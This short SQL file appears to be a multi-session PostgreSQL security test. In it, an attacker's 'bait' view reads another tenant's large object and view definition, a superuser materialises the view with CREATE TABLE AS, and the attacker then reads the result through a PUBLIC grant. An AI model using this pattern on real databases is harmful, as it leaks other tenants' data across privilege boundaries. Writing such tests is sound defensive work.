-- A view of built-in functions, kept by a superuser's CREATE TABLE AS in the attacker's schema.
-- @open an operator binds before he reads a tenant's view
CREATE VIEW bait AS SELECT lo_get(:beta_lo_oid) AS l, pg_get_viewdef(:beta_view_oid) AS v;
-- @session operator
CREATE TABLE tenant_alpha.report AS SELECT v FROM tenant_alpha.bait;
GRANT SELECT ON tenant_alpha.report TO PUBLIC;
-- @session attacker
TABLE report;
